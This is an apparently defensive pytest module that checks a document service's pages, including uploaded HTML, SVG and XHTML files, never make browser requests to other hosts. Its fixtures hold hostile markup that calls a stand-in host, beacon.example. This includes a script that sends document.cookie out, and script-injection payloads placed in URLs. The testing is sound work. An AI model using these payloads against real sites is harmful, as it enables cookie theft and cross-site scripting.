"""A browser opens everything that the service can show, and asks nobody but the service for anything."""

from __future__ import annotations

import http.server
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from starlette.types import ASGIApp, Receive, Scope, Send

from api.app import create_app
from tests.airgap.browser import HINT, browsing, host_of, program
from tests.airgap.flow import files
from tests.support.live import served
from tests.support.running import Running, running, settings_for

pytestmark = pytest.mark.skipif(program() is None, reason=HINT)

HOSTILE = """<!DOCTYPE html><html><head><link rel="stylesheet" href="//beacon.example/x.css">
<meta http-equiv="refresh" content="1;url=http://beacon.example/gone"></head><body>
<img src="http://beacon.example/x.png"><script src="http://beacon.example/x.js"></script>
<script>fetch("http://beacon.example/fetched?" + document.cookie); document.title = "ran"</script>
<iframe src="http://beacon.example/frame"></iframe><form action="http://beacon.example/form"></form>공지</body></html>"""
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://beacon.example/x.png"/>'
    '<script>fetch("http://beacon.example/svg")</script><text>그림</text></svg>'
)


class WithKey:
    """The application as a browser with a session would reach it: each request carries the key."""

    def __init__(self, app: ASGIApp, key: str) -> None:
        self._app, self._key = app, key.encode()

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            scope = {**scope, "headers": [*scope["headers"], (b"authorization", b"Bearer " + self._key)]}
        await self._app(scope, receive, send)


@contextmanager
def static(page: str, kind: str = "text/html") -> Iterator[str]:
    """A page from any other server: what the service must not be."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", f"{kind}; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, format: str, *arguments: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


def foreign(address: str, requested: list[str]) -> list[str]:
    """What a page asked of others than the service."""
    return [url for url in requested if not url.startswith((address, "data:", "about:", "blob:", "chrome-error:"))]


@pytest.mark.parametrize(
    ("line", "host"),
    [
        ("GET http://beacon.example/x HTTP/1.1", "beacon.example"),
        ("CONNECT beacon.example:443 HTTP/1.1", "beacon.example"),
        ("nonsense", "nonsense"),
    ],
)
def test_the_proxy_reads_hosts(line: str, host: str) -> None:
    assert host_of(line) == host


@pytest.mark.slow
def test_the_count_bites() -> None:
    """The same page, served as HTML by somebody else, is seen to phone by both counts; an empty one by none."""
    with browsing() as browser:
        with static("<!DOCTYPE html><p>nothing</p>") as address:
            assert not foreign(address, browser.open(address)) and not browser.proxied
        with static(HOSTILE) as address:
            seen = foreign(address, browser.open(address))
    assert {f"http://beacon.example/{name}" for name in ("x.css", "x.png", "x.js")} <= set(seen), seen
    assert "beacon.example" in browser.proxied


def pages(service: Running, key: str) -> Iterator[str]:
    """Every address that a browser could be sent to: each GET route, its refusals, and each original that was uploaded."""
    headers = {"Authorization": f"Bearer {key}"}
    listed = service.http.get("/api/v1/collections/shown/documents", headers=headers, params={"limit": 100})
    documents = [item["id"] for item in listed.json()["documents"]]
    for path, operations in create_app().openapi()["paths"].items():
        if "get" not in operations:
            continue
        if "{document_id}/content" in path:
            yield from (path.format(document_id=identity) for identity in documents)
            continue
        if path.endswith("/events"):  # a stream without an end is no page
            continue
        yield path.replace("{name}", "shown").replace("{document_id}", documents[0])
    yield from ("/", "/docs", "/redoc", "/nowhere/<script>fetch('http://beacon.example/')</script>", "/v1/nowhere")
    yield "/api/v1/search?question=%3Cimg%20src%3Dhttp%3A%2F%2Fbeacon.example%2Fx%3E"


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_no_page_asks_anybody_else(tmp_path: Path) -> None:
    with running(settings_for(tmp_path, {"rag": {"embedding": {"dense": "none"}}})) as service:
        caller = service.caller()
        key = caller.headers["Authorization"].split()[1]
        caller.collection("shown")
        originals = {"공지.html": HOSTILE, "그림.svg": SVG, "글.xhtml": HOSTILE}
        originals |= {
            name: data for name, data in files().items() if name.endswith((".md", ".pdf", ".mhtml", ".eml", ".xml"))
        }
        caller.ingest("shown", originals)
        with browsing() as browser, served(WithKey(create_app(service.services), key), lifespan="off") as address:  # type: ignore[arg-type]
            shown = [address + page.replace('"', "%22") for page in pages(service, key)]
            asked = [(page, browser.open(page)) for page in shown]
    assert all(requested for _, requested in asked), "a page was not opened"
    wanted = [(page, url) for page, requested in asked for url in foreign(address, requested)]
    counts = f"{len(shown)} pages, {sum(len(requested) for _, requested in asked)} requests"
    sys.stdout.write(f"in the browser: {counts}, {len(wanted)} to foreign hosts, {len(browser.proxied)} at the proxy\n")
    assert not wanted and not browser.proxied, (wanted, browser.proxied)
